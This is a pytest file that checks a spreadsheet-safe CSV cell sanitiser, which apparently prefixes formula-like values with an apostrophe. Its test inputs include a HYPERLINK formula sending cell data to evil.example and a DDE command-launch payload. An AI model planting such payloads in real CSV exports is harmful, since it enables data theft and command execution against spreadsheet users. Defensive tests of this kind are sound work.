"""Spreadsheet-safe CSV cells: formulas stay text, ordinary values are untouched."""

from __future__ import annotations

import pytest

from retain.core.spreadsheet import safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme = best", "Acme = best"),
        ("", ""),
        (-3.5, -3.5),
        (0, 0),
        (None, None),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
